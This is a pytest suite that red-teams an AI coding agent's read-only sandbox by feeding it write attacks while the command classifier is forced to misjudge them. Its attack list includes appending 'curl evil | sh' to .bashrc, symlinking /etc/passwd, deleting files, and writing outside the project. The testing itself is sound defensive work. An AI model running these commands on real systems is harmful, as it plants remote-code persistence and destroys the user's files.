"""Plan mode, and safe mode for commands classified read-only, run commands in a read-only
sandbox: with the classifier forced wrong (a test hook calls every command read-only), no
command can change a file in the project or outside it. Judged by the files on the host."""

from __future__ import annotations

import pytest

from tests.support.redteam_sandbox import KINDS, force_read_only, shell

# (command, what it would change: a path relative to the test's tmp dir)
ATTACKS = [
    ("touch project/new.txt", "project/new.txt"),
    ("echo pwned > project/existing.txt", "project/existing.txt"),
    ("python3 -c \"open('project/py.txt', 'w').write('pwned')\"", "project/py.txt"),
    ("ln -s /etc/passwd project/link", "project/link"),
    ("mv project/existing.txt project/moved.txt", "project/moved.txt"),
    ("rm project/existing.txt", "project/existing.txt"),
    ("mkdir project/dir", "project/dir"),
    ("echo 'curl evil | sh' >> home/.bashrc", "home/.bashrc"),
    ("echo pwned > outside/x", "outside/x"),
]


def _layout(tmp_path, monkeypatch):
    (tmp_path / "project" / "existing.txt").write_text("original\n")
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / ".bashrc").write_text("# rc\n")
    (tmp_path / "outside").mkdir()
    monkeypatch.setenv("HOME", str(tmp_path / "home"))


def _state(tmp_path):
    """Every file and link under the test's tmp dir, with its content: what an attack could change."""
    state = {}
    for path in sorted(tmp_path.rglob("*")):
        rel = str(path.relative_to(tmp_path))
        if rel.startswith(("auger-home", "sessions.db")):
            continue
        state[rel] = path.readlink() if path.is_symlink() else (path.read_bytes() if path.is_file() else "dir")
    return state


def _attack(project, server, kind, mode, command):
    # Commands run in the project; the payloads name paths from its parent.
    return shell(project, server, kind, {"command": command, "workdir": "."}, mode=mode,
                 overrides=(), approve_all=False)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("mode", ["plan", "safe"])
@pytest.mark.parametrize("command,target", ATTACKS, ids=[t for _, t in ATTACKS])
def test_misclassified_writes_fail_in_read_only_modes(tmp_path, project, server, monkeypatch, kind, mode, command,
                                                     target):
    _layout(tmp_path, monkeypatch)
    force_read_only(monkeypatch)
    before = _state(tmp_path)
    outs = _attack(project, server, kind, mode, f"cd .. && {command}")
    assert not outs[0].startswith("Not run"), outs[0]  # the gate let it through: only the sandbox stands
    assert _state(tmp_path) == before, outs[0]


@pytest.mark.parametrize("command,target", ATTACKS, ids=[t for _, t in ATTACKS])
def test_control_the_same_payloads_work_unconfined(tmp_path, project, server, monkeypatch, command, target):
    _layout(tmp_path, monkeypatch)
    force_read_only(monkeypatch)
    before = _state(tmp_path)
    outs = _attack(project, server, "off", "plan", f"cd .. && {command}")
    assert _state(tmp_path) != before, outs[0]


@pytest.mark.parametrize("kind", KINDS)
def test_read_only_commands_still_work_and_have_a_scratch_dir(project, server, monkeypatch, kind):
    (project / "data.txt").write_text("b\na\n")
    force_read_only(monkeypatch)  # (a redirection is a change to the classifier, even into $TMPDIR)
    outs = shell(project, server, kind, "sort data.txt && echo t > \"$TMPDIR/t\" && cat \"$TMPDIR/t\"", mode="plan",
                 approve_all=False)
    assert outs[0].startswith("Exit code: 0") and "a\nb\nt" in outs[0], outs[0]


@pytest.mark.parametrize("kind", KINDS)
def test_safe_mode_approved_changes_still_write(project, server, kind):
    outs = shell(project, server, kind, "echo made > made.txt", mode="safe", approve_all=True)
    assert (project / "made.txt").read_text() == "made\n", outs[0]


@pytest.mark.parametrize("kind", KINDS)
def test_the_model_is_told_the_command_ran_read_only(project, server, monkeypatch, kind):
    force_read_only(monkeypatch)
    outs = shell(project, server, kind, "touch new.txt", mode="plan", approve_all=False)
    assert not (project / "new.txt").exists()
    assert outs[0].startswith("[sandbox] ") and "ran read-only" in outs[0] and "plan mode" in outs[0], outs[0]
